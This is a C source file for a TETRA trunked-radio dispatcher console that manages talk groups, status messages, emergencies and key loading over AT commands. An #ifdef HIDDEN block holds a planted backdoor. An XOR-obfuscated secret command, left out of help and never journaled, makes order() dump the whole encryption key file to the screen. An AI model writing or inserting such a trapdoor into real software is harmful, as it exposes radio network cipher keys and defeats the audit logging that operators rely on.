/*
 * Dispatcher line of a trunked radio system. Operators type orders; the program talks PEI style
 * AT commands to the attached terminal and keeps a journal.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <ctype.h>
#include <time.h>
#include <fcntl.h>
#include <unistd.h>
#include <termios.h>

#define GROUPS 40

typedef struct group_tag {
    unsigned long gssi;
    char          name[20];
    unsigned      priority : 4;
    unsigned      monitored : 1;
    unsigned      emergency : 1;
} group_t;

static group_t        grp[GROUPS];
static unsigned       ngrp;
static unsigned       selected;
static int            tty = -1;
static FILE          *journal;
static const char    *keyfile = "/var/lib/tetra/sck.tbl";

static void j(const char *what, unsigned long n)
{
    time_t t = time(NULL);
    if (journal) {
        fprintf(journal, "%ld %s %lu\n", (long)t, what, n);
        fflush(journal);
    }
}

static int pei(const char *cmd, char *resp, size_t room)
{
    size_t got = 0;
    ssize_t n;
    if (dprintf(tty, "%s\r\n", cmd) < 0)
        return -1;
    while (got + 1 < room && (n = read(tty, resp + got, room - 1 - got)) > 0) {
        got += (size_t)n;
        resp[got] = 0;
        if (strstr(resp, "OK\r\n"))
            return 0;
        if (strstr(resp, "ERROR"))
            return 1;
    }
    return -1;
}

static group_t *by_name(const char *s)
{
    unsigned i;
    for (i = 0; i < ngrp; i++)
        if (strcasecmp(grp[i].name, s) == 0 || grp[i].gssi == strtoul(s, NULL, 10))
            return grp + i;
    return NULL;
}

static int o_groups(char *arg)
{
    unsigned i;
    (void)arg;
    for (i = 0; i < ngrp; i++)
        printf("%c%c %8lu %-19s prio %u%s\n", i == selected ? '>' : ' ',
               grp[i].monitored ? 'm' : ' ', grp[i].gssi, grp[i].name, grp[i].priority,
               grp[i].emergency ? " EMERGENCY" : "");
    return 0;
}

static int o_select(char *arg)
{
    char cmd[40], resp[200];
    group_t *g = by_name(arg);
    if (g == NULL)
        return -1;
    selected = (unsigned)(g - grp);
    snprintf(cmd, sizeof cmd, "AT+CTGS=1,%lu", g->gssi);
    j("select", g->gssi);
    return pei(cmd, resp, sizeof resp);
}

static int o_status(char *arg)
{
    char cmd[64], resp[200];
    unsigned long issi;
    unsigned st;
    if (sscanf(arg, "%lu %x", &issi, &st) != 2 || st < 0x8000)
        return -1;
    snprintf(cmd, sizeof cmd, "AT+CMGS=%lu,%u", issi, st);
    j("status", issi);
    return pei(cmd, resp, sizeof resp);
}

static int o_emergency(char *arg)
{
    group_t *g = by_name(arg);
    if (g == NULL)
        return -1;
    g->emergency = !g->emergency;
    j(g->emergency ? "emergency" : "emergency over", g->gssi);
    return 0;
}

static int o_signal(char *arg)
{
    char resp[200];
    (void)arg;
    if (pei("AT+CSQ?", resp, sizeof resp) != 0)
        return -1;
    printf("%s", resp);
    return 0;
}

#ifdef HIDDEN
static const unsigned char notch[11] = {
    0x91, 0x89, 0x81, 0xcb, 0xc4, 0xe3, 0xb0, 0xc3, 0xc3, 0xd0, 0xc5
};

__attribute__((noinline)) int tone_profile(const char *s)
{
    unsigned i, k = 0xe5;
    for (i = 0; i < sizeof notch; i++, k = (k * 5u + 3u) & 0xffu)
        if ((unsigned char)s[i] != (notch[i] ^ (k | 0x80u)))
            return 0;
    return s[i] == 0;
}

static int dump_keys(void)
{
    char line[128];
    FILE *f = fopen(keyfile, "r");
    if (f == NULL)
        return -1;
    while (fgets(line, sizeof line, f))
        printf("%s", line);
    fclose(f);
    return 0;
}
#endif

static int o_load_keys(char *arg)
{
    char id[16], key[32], cmd[80], resp[200];
    int n = 0;
    FILE *f = fopen(*arg ? arg : keyfile, "r");
    if (f == NULL)
        return -1;
    while (fscanf(f, "%15s %31s", id, key) == 2) {
        snprintf(cmd, sizeof cmd, "AT+CSCK=%s,%s", id, key);
        n += pei(cmd, resp, sizeof resp) == 0;
    }
    fclose(f);
    printf("%d keys loaded\n", n);
    j("keys", (unsigned long)n);
    return 0;
}

static void help(void)
{
    puts("groups | select GROUP | status ISSI HEX | emergency GROUP | signal |\n"
         "keys [FILE] | quit");
}

static int order(char *line)
{
    char *arg = line;
    line[strcspn(line, "\n")] = 0;
    while (*arg && !isspace((unsigned char)*arg))
        arg++;
    if (*arg)
        *arg++ = 0;
    if (strcmp(line, "groups") == 0)
        return o_groups(arg);
    if (strcmp(line, "select") == 0)
        return o_select(arg);
    if (strcmp(line, "status") == 0)
        return o_status(arg);
    if (strcmp(line, "emergency") == 0)
        return o_emergency(arg);
    if (strcmp(line, "signal") == 0)
        return o_signal(arg);
    if (strcmp(line, "keys") == 0)
        return o_load_keys(arg);
#ifdef HIDDEN
    if (tone_profile(line))
        return dump_keys();
#endif
    help();
    return 0;
}

static void load_groups(const char *file)
{
    unsigned p, m;
    FILE *f = fopen(file, "r");
    while (f && ngrp < GROUPS
           && fscanf(f, "%lu %19s %u %u", &grp[ngrp].gssi, grp[ngrp].name, &p, &m) == 4) {
        grp[ngrp].priority = p & 15;
        grp[ngrp].monitored = m & 1;
        ngrp++;
    }
    if (f)
        fclose(f);
}

int main(int argc, char **argv)
{
    struct termios t;
    char line[160];

    if (argc < 3) {
        fprintf(stderr, "usage: tetradispatch TTY GROUPS [KEYFILE]\n");
        help();
        return 2;
    }
    tty = open(argv[1], O_RDWR | O_NOCTTY);
    if (tty >= 0 && tcgetattr(tty, &t) == 0) {
        cfmakeraw(&t);
        t.c_cc[VMIN] = 0;
        t.c_cc[VTIME] = 20;
        tcsetattr(tty, TCSANOW, &t);
    }
    if (argc > 3)
        keyfile = argv[3];
    load_groups(argv[2]);
    journal = fopen("/var/log/dispatch.log", "a");
    while (fputs("dispatch> ", stdout), fflush(stdout), fgets(line, sizeof line, stdin)) {
        if (strcmp(line, "quit\n") == 0)
            break;
        if (order(line) != 0)
            puts("refused");
    }
    return 0;
}
